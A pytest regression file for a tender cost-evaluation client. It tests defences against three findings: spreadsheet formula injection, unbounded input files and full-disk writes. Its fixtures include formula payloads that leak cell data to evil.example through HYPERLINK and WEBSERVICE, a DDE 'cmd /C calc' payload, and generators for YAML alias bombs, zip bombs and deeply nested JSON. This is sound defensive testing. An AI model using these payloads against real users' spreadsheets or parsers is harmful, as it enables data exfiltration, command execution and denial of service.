"""Regression tests of the client, one per bug, named after it (issue #15 findings 4, 6 and 8)."""

from __future__ import annotations

import csv
import errno
import io
import json
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from tco_client.analysis import AnalysisResult
from tco_client.analysis_report import write_analysis_report
from tco_client.analysis_spec import save_spec
from tco_client.charts import write_charts
from tco_client.errors import TcoError
from tco_client.report import write_report
from tco_client.result import EvaluationResult
from tco_client.safe_output import append_row, csv_safe, put_cell, save_workbook
from tco_client.template import write_template
from tco_client.tender import load_tender
from tcoapi.v1 import analysis_pb2
from tests.client.conftest import EXAMPLE_FILES, CliResult
from tests.conftest import ROOT

Cli = Callable[..., CliResult]

# -- finding 4: a bidder can plant live formulas in the evaluator's report ----------------------

#: Every free-text field of the sample tender (resource names are snake_case), replaced by text
#: a spreadsheet would run as a formula.
PLANTED = {
    "A": "=1+2",
    "B": "@SUM(1,2)",
    "Städmaskiner Nord AB": '=HYPERLINK("http://evil.example/leak?"&C3,"x")',
    "EcoClean Europe GmbH": "-2+3+cmd|' /C calc'!A0",
    "ride-on scrubber (diesel)": '=WEBSERVICE("http://evil.example/?"&A1)',
    "ride-on scrubber (battery, refurbished)": "+1+1",
    "service agreement": "#N/A",
    "battery pack": "=2*3",
    "take-back and refurbishment programme": "@cmd",
    "year of cleaning service": "=1/0",
    "well-to-wheel": "=IMPORTXML(A1)",
}


def _plant(node: Any) -> Any:
    if isinstance(node, dict):
        return {key: _plant(value) for key, value in node.items()}
    if isinstance(node, list):
        return [_plant(value) for value in node]
    return PLANTED.get(node, node) if isinstance(node, str) else node


@pytest.fixture(scope="module")
def planted_tender(tmp_path_factory: pytest.TempPathFactory) -> Path:
    document = _plant(json.loads(EXAMPLE_FILES["sample"].read_text(encoding="utf-8")))
    path = tmp_path_factory.mktemp("planted") / "planted.json"
    path.write_text(json.dumps(document, ensure_ascii=False), encoding="utf-8")
    return path


def _assert_no_formula(path: Path, must_hold: set[str]) -> None:
    """No cell of the workbook is a formula (or an error value), and ``must_hold`` texts are in
    it as written."""
    texts = set()
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), f"{ws.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    assert must_hold <= texts, must_hold - texts


def test_planted_formulas_stay_text_in_the_template(cli: Cli, planted_tender: Path) -> None:
    out = planted_tender.with_name("template.xlsx")
    assert cli("template", out, "--from", planted_tender).exit_code == 0
    _assert_no_formula(out, set(PLANTED.values()))
    assert load_tender(out) == load_tender(planted_tender)  # and it reads back as written


def test_planted_formulas_stay_text_in_reports_and_csv(
    cli: Cli, server_target: str, planted_tender: Path, tmp_path: Path
) -> None:
    bids = {PLANTED["A"], PLANTED["B"]}
    suppliers = {PLANTED["Städmaskiner Nord AB"], PLANTED["EcoClean Europe GmbH"]}
    report = tmp_path / "report.xlsx"
    evaluated = cli("evaluate", planted_tender, "-s", server_target, "--excel", report)
    assert evaluated.exit_code == 0, evaluated.stderr
    _assert_no_formula(report, bids | suppliers)
    analysis = tmp_path / "analysis.xlsx"
    analyzed = cli(
        "analyze", planted_tender, "-s", server_target, "--draws", "200", "--excel", analysis
    )
    assert analyzed.exit_code == 0, analyzed.stderr
    _assert_no_formula(analysis, bids | suppliers)
    as_csv = cli("evaluate", planted_tender, "-s", server_target, "--format", "csv")
    assert as_csv.exit_code == 0, as_csv.stderr
    cells = [cell for row in csv.reader(io.StringIO(as_csv.stdout)) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@")) and not _is_number(c)]
    assert {"'" + text for text in bids | suppliers} <= set(cells)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("text", ["=1+2", "#N/A", "@x", "a\x01b"])
def test_cells_hold_any_text_as_text(text: str, tmp_path: Path) -> None:
    wb = Workbook()
    assert wb.active is not None
    put_cell(wb.active, 1, 1, text)
    append_row(wb.active, [text])
    cells = [row[0] for row in load_workbook(save_workbook(wb, tmp_path / "t.xlsx")).active]
    assert [(c.value, c.data_type) for c in cells] == [(text.replace("\x01", "\ufffd"), "s")] * 2


@pytest.mark.parametrize(
    ("text", "escaped"),
    [("=1+2", "'=1+2"), ("\tx", "'\tx"), ("\r=1", "'\r=1"), ("a=b", "a=b"), (-1.5, -1.5)],
)
def test_csv_cells_are_escaped_by_the_owasp_rule(text: object, escaped: object) -> None:
    assert csv_safe(text) == escaped


# -- finding 6: tender files without bounds ------------------------------------------------------


def _alias_bomb(path: Path) -> None:
    """300 bids of 300 items of 300 resource uses in 5 KB: one node, referred to by aliases."""
    refs = ", *{}" * 300
    use = "&r {resource: x, amount: {value: 1, unit: kWh}}"
    item = "&i {name: i, resource_use: [" + use + refs.format(*"r" * 300) + "]}"
    bid = "&b {id: b, items: [" + item + refs.format(*"i" * 300) + "]}"
    path.write_text("bids: [" + bid + refs.format(*"b" * 300) + "]\n", encoding="utf-8")


def _replace_part(path: Path, part: str, edit: Callable[[bytes], bytes]) -> None:
    """Rewrite one part of a workbook's zip."""
    with zipfile.ZipFile(path) as src:
        parts = {info.filename: src.read(info) for info in src.infolist()}
    parts[part] = edit(parts[part])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for name, data in parts.items():
            dst.writestr(name, data)


def _sheet_part(path: Path, title: str) -> str:
    wb = load_workbook(path)
    return f"xl/worksheets/sheet{wb.sheetnames.index(title) + 1}.xml"


def _workbook_with(path: Path, sheet: str, edit: Callable[[bytes], bytes]) -> None:
    write_template(path, load_tender(EXAMPLE_FILES["sample"]))
    if sheet not in load_workbook(path).sheetnames:
        wb = load_workbook(path)
        wb.create_sheet(sheet)["A1"] = "x"
        wb.save(path)
    _replace_part(path, _sheet_part(path, sheet), edit)


def _compressed_text(path: Path) -> None:
    big = b'<c r="A1" t="inlineStr"><is><t>' + b"x" * (5 << 20) + b"</t></is></c>"
    _workbook_with(path, "Notes", lambda xml: re.sub(rb'<c r="A1".*?</c>', big, xml))


def _many_rows(path: Path) -> None:
    rows = b"".join(
        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>A</t></is></c></row>' % (n, n)
        for n in range(10, 60_010)
    )
    _workbook_with(path, "Bids", lambda xml: xml.replace(b"</sheetData>", rows + b"</sheetData>"))


def _wide_row(path: Path) -> None:
    cells = b"".join(b'<c t="inlineStr"><is><t>%d</t></is></c>' % n for n in range(300_000))
    row = b'<row r="9">' + cells + b"</row>"
    _workbook_with(path, "Notes", lambda xml: xml.replace(b"</sheetData>", row + b"</sheetData>"))


def _far_row(path: Path) -> None:
    row = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    _workbook_with(path, "Bids", lambda xml: xml.replace(b"</sheetData>", row + b"</sheetData>"))


def _cached_formula(path: Path) -> None:
    # A formula whose stored result (185000) disagrees with it (1+1): any program can write that.
    _workbook_with(
        path,
        "Bids",
        lambda xml: re.sub(rb'<c r="G2"([^>]*)><v>', rb'<c r="G2"\1><f>1+1</f><v>', xml),
    )


def _deep_json(path: Path) -> None:
    path.write_text('{"bids": ' + "[" * 1_000_000 + "]" * 1_000_000 + "}", encoding="utf-8")


def _deep_yaml(path: Path) -> None:
    path.write_text("bids: " + "[" * 100_000 + "]" * 100_000 + "\n", encoding="utf-8")


def _huge_json(path: Path) -> None:
    path.write_text('{"method": {"functional_unit": "' + "x" * (33 << 20) + '"}}', "utf-8")


HOSTILE_FILES: dict[str, tuple[Callable[[Path], None], str]] = {
    "bomb.yaml": (_alias_bomb, "anchors and aliases"),
    "zipbomb.xlsx": (_compressed_text, "compressed"),
    "rows.xlsx": (_many_rows, "row 50001, over 50000 rows"),
    "wide.xlsx": (_wide_row, "a cell in row 9, column 257, over 256 columns"),
    "far.xlsx": (_far_row, "row 1048576, over 50000 rows"),
    "cached.xlsx": (_cached_formula, "Bids!G2 (unit_price): a formula (=1+1)"),
    "deep.json": (_deep_json, "nested deeper than 32 levels"),
    "deep.yaml": (_deep_yaml, "deep.yaml:1:38: not valid YAML: nested deeper than 32 levels"),
    "huge.json": (_huge_json, "over the limit of 32.0 MiB"),
}

#: Runs ``tco template OUT --from FILE`` for each file in one child process capped at 1 GiB of
#: address space; prints one JSON line per file: exit code, stderr.
_CHILD = """
import contextlib, io, json, resource, sys
resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
from tco_client.cli import main
for path in sys.argv[1:]:
    err = io.StringIO()
    with contextlib.redirect_stderr(err):
        code = main(["template", path + ".out.xlsx", "--from", path])
    print(json.dumps([code, err.getvalue()]), flush=True)
"""


@pytest.fixture(scope="module")
def hostile_outcomes(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[Any]]:
    folder = tmp_path_factory.mktemp("hostile")
    for name, (make, _problem) in HOSTILE_FILES.items():
        make(folder / name)
    paths = [str(folder / name) for name in HOSTILE_FILES]
    done = subprocess.run(
        [sys.executable, "-c", _CHILD, *paths],
        capture_output=True,
        text=True,
        timeout=300,  # a hang guard
        cwd=ROOT,
        check=False,
    )
    outcomes = [json.loads(line) for line in done.stdout.splitlines()]
    assert len(outcomes) == len(paths), done.stderr[-2000:]  # the child ran out of memory?
    for outcome, path in zip(outcomes, paths, strict=True):
        outcome.append(Path(path + ".out.xlsx").exists())
    return dict(zip(HOSTILE_FILES, outcomes, strict=True))


@pytest.mark.parametrize("name", list(HOSTILE_FILES))
def test_tender_files_are_read_within_bounds(
    name: str, hostile_outcomes: dict[str, list[Any]]
) -> None:
    """Each hostile file is refused with exit 2, naming the file (and cell), in a process of at
    most 1 GiB (and within the child's timeout, a hang guard); no template is written from it."""
    code, stderr, written = hostile_outcomes[name]
    assert code == 2, stderr
    assert not written
    assert name in stderr
    assert HOSTILE_FILES[name][1] in stderr, stderr


def test_a_spec_file_is_read_within_the_same_bounds(cli: Cli, tmp_path: Path) -> None:
    spec = tmp_path / "spec.yaml"
    spec.write_text("a: &a [1, 2]\nsensitivity: *a\n", encoding="utf-8")
    out = cli("analyze", EXAMPLE_FILES["sample"], "--spec", spec, "-s", "127.0.0.1:1")
    assert out.exit_code == 2
    assert "spec.yaml:1:4: not valid YAML" in out.stderr
    assert "anchors and aliases" in out.stderr


# -- finding 8: a full disk destroys the previous report ---------------------------------------


class _FullDisk:
    """A file that takes ``room`` bytes, then fails as a full disk does."""

    def __init__(self, file: Any, room: int) -> None:
        self._file, self._room = file, room

    def write(self, data: Any) -> int:
        if len(data) > self._room:
            self._file.write(bytes(data)[: self._room])
            self._room = 0
            raise OSError(errno.ENOSPC, "No space left on device")
        self._room -= len(data)
        return int(self._file.write(data))

    def __getattr__(self, name: str) -> Any:
        return getattr(self._file, name)

    def __enter__(self) -> _FullDisk:
        return self

    def __exit__(self, *exc: object) -> None:
        self._file.close()


@pytest.fixture
def full_disk(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Every file opened for writing in ``tmp_path`` (by path or descriptor) fills up after
    10 bytes."""
    real_open = io.open

    def open_(file: Any, mode: str = "r", *args: Any, **kwargs: Any) -> Any:
        opened = real_open(file, mode, *args, **kwargs)
        in_tmp = isinstance(file, int) or str(file).startswith(str(tmp_path))
        return _FullDisk(opened, 10) if "w" in mode and in_tmp else opened

    monkeypatch.setattr(io, "open", open_)


def _analysis(offline_result: EvaluationResult) -> AnalysisResult:
    request = analysis_pb2.AnalyzeRankingRequest(bids=offline_result.request.bids)
    request.method.CopyFrom(offline_result.request.method)
    response = analysis_pb2.AnalyzeRankingResponse(method_digest="m" * 64)
    for rank, bid_id in enumerate(offline_result.bid_ids, start=1):
        response.base.add(bid_id=bid_id, comparison_number=1000.0 * rank, rank=rank)
    return AnalysisResult(request=request, response=response)


WRITERS: dict[str, Callable[[EvaluationResult, Path, str], Any]] = {
    "report.xlsx": lambda r, path, lang: write_report(r, path, lang=lang),
    "analysis.xlsx": lambda r, path, lang: write_analysis_report(_analysis(r), path, lang=lang),
    "template.xlsx": lambda r, path, lang: write_template(path, r.request, lang=lang),
    "chart.png": lambda r, path, lang: write_charts(r, f"{path.parent}/c/", lang=lang),
    "spec.yaml": lambda r, path, lang: save_spec(
        analysis_pb2.AnalysisSpec(sensitivity=[{"path": lang}]), path
    ),
}


@pytest.mark.parametrize("name", sorted(WRITERS))
def test_a_full_disk_leaves_the_previous_file_intact(
    name: str, offline_result: EvaluationResult, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    write = WRITERS[name]
    path = tmp_path / name
    write(offline_result, path, "en")
    written = path if path.exists() else tmp_path / "c" / "cumulative-cost.png"
    before = written.read_bytes()
    request.getfixturevalue("full_disk")
    with pytest.raises(TcoError, match=re.escape(str(written))):
        write(offline_result, path, "sv")
    assert written.read_bytes() == before
    assert not [p for p in written.parent.iterdir() if p.name.startswith(".")]


def test_the_cli_names_the_file_it_could_not_write(
    cli: Cli, tmp_path: Path, full_disk: None
) -> None:
    out = tmp_path / "template.xlsx"
    done = cli("template", out, "--from", EXAMPLE_FILES["sample"])
    assert done.exit_code == 1
    assert f"cannot write {out}: No space left on device" in done.stderr
    assert not out.exists()
